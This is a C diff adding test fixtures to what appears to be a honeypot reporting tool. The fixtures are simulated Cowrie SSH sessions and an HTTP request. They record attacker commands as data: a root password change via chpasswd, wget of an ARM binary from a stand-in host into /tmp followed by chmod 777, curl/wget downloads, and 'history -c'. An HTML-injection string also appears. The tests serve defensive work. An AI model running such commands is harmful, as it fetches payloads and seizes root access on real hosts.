@@ -457,6 +457,63 @@ make_hostile(void)
 	f.vt_tags = cJSON_CreateArray();
 	cJSON_AddItemToArray(f.vt_tags, cJSON_CreateString(HOSTILE));
 	f.engines = engines(2, HOSTILE);
+	f.story = (struct sample_story){ .honeypot = copy(HOSTILE),
+		.protocol = copy(HOSTILE),
+		.user = copy(HOSTILE),
+		.in = true,
+		.tries = 2,
+		.typed = 1,
+		.commands = cJSON_CreateArray() };
+	cJSON_AddItemToArray(f.story.commands, cJSON_CreateString(HOSTILE));
+	cJSON_AddItemToArray(f.story.commands, cJSON_CreateNumber(7));
+	return f;
+}
+
+/* A session with more commands than are shown, some of which tell a secret. */
+static struct sample_facts
+make_story(void)
+{
+	struct sample_facts f = make_malicious();
+
+	f.story = (struct sample_story){ .honeypot = copy("Cowrie"),
+		.protocol = copy("ssh"),
+		.user = copy("root"),
+		.client = copy("SSH-2.0-Go"),
+		.in = true,
+		.tries = 3,
+		.typed = 14,
+		.commands = json(
+		    "[\"uname -a\",\"Host: 203.0.113.10:2323\",\"passwd\",\"Geheim4711\",\"Geheim4711\","
+		    "\"echo \\\"root:Geheim4711\\\"|chpasswd\","
+		    "\"cd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod 777 x.arm7\","
+		    "\"ping 203.0.113.10; hostname my-sensor\",\"[gallery] </code><b>\",\"nproc\",\"w\","
+		    "\"crontab -l\",\"history -c\",\"exit\"]") };
+	return f;
+}
+
+/* A user whose name may be personal, and a request of whatever kind. */
+static struct sample_facts
+make_story_short(void)
+{
+	struct sample_facts f = captured(VERDICT_UNKNOWN, 0, 0);
+
+	f.story = (struct sample_story){ .honeypot = copy("Cowrie"),
+		.user = copy("john.doe@my-sensor"),
+		.in = true,
+		.tries = 21,
+		.typed = 1,
+		.commands = json(
+		    "[\"curl -O http://198.51.100.7/x; wget http://198.51.100.7/x\"]") };
+	return f;
+}
+
+static struct sample_facts
+make_story_request(void)
+{
+	struct sample_facts f = captured(VERDICT_UNKNOWN, 0, 0);
+
+	f.story = (struct sample_story){ .honeypot = copy("H0neytr4p"),
+		.request = copy("POST /up.php?host=203.0.113.10&x=" HOSTILE) };
 	return f;
 }
 
@@ -464,6 +521,9 @@ static const struct {
 	const char *name, *zone;
 	struct sample_facts (*make)(void);
 } CASES[] = {
+	{ "story", "UTC", make_story },
+	{ "story-short", "UTC", make_story_short },
+	{ "story-request", "UTC", make_story_request },
 	{ "malicious", "UTC", make_malicious },
 	{ "malicious-by-hand", "UTC", make_malicious_by_hand },
 	{ "malicious-undated", "UTC", make_malicious_undated },
